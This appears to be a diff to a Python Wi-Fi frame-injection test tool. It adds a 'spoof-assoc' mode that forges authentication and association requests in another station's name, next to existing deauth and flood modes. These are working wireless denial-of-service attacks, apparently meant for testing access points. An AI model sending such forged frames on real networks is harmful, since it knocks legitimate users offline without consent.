@@ -21,6 +21,9 @@ Subcommands:
                      in cell --bssid, each from a new random source; every
                      --bad-every-th frame has a bad source instead
                      (multicast, all zero, or --own)
+  spoof-assoc        open-system authentication and an association
+                     request (PMF required in its RSN element) from --sta
+                     to --bssid, as an attacker would send them
   deauth             deauthentication from --bssid to --sta (broadcast when
                      none), unprotected; with --protected-short protected
                      ones with bodies of 0..15 bytes instead
@@ -316,6 +319,22 @@ def run_deauth(s, a):
         else:
             m = hdr3(FTYPE_MGMT, DEAUTH, to, a.bssid, a.bssid, s.seq)
             body = struct.pack("<H", a.reason)
+        s.send(s.next_freq(), m + body)
+
+
+def run_spoof_assoc(s, a):
+    """An open-system authentication, then an association request, both
+    claiming to come from --sta: what lets an AP without PMF drop the real
+    station."""
+    # RSN: CCMP, PSK-SHA256, capabilities MFPC and MFPR (PMF required)
+    rsn = bytes.fromhex("0100000fac040100000fac040100000fac06c000")
+    while s.more():
+        m = hdr3(FTYPE_MGMT, AUTH, a.bssid, a.sta, a.bssid, s.seq)
+        s.send(s.next_freq(), m + struct.pack("<HHH", 0, 1, 0))
+        m = hdr3(FTYPE_MGMT, ASSOC_REQ, a.bssid, a.sta, a.bssid, s.seq)
+        body = struct.pack("<HH", CAP_ESS | CAP_PRIVACY, 10) + \
+            ie(EID_SSID, a.ssid.encode()) + ie(EID_RATES, RATES) + \
+            ie(EID_RSN, rsn)
         s.send(s.next_freq(), m + body)
 
 
@@ -698,6 +717,13 @@ def parser():
     sp.add_argument("--protected-short", action="store_true",
                     help="protected, bodies of 0..15 bytes")
 
+    sp = add("spoof-assoc", 1, 2437,
+             "authentication and association in another station's name")
+    sp.add_argument("--bssid", type=mac, required=True, help="the AP")
+    sp.add_argument("--sta", type=mac, required=True,
+                    help="the station whose address the frames claim")
+    sp.add_argument("--ssid", default="test")
+
     sp = add("mutate", 40000, None, "mutation storm")
     sp.add_argument("--bssid", type=mac, required=True, help="the AP")
     sp.add_argument("--ssid", default="test")
@@ -721,6 +747,7 @@ RUN = {
     "auth-flood": run_auth_flood,
     "ibss-flood": run_ibss_flood,
     "deauth": run_deauth,
+    "spoof-assoc": run_spoof_assoc,
     "mutate": run_mutate,
     "own-addr": run_own_addr,
 }
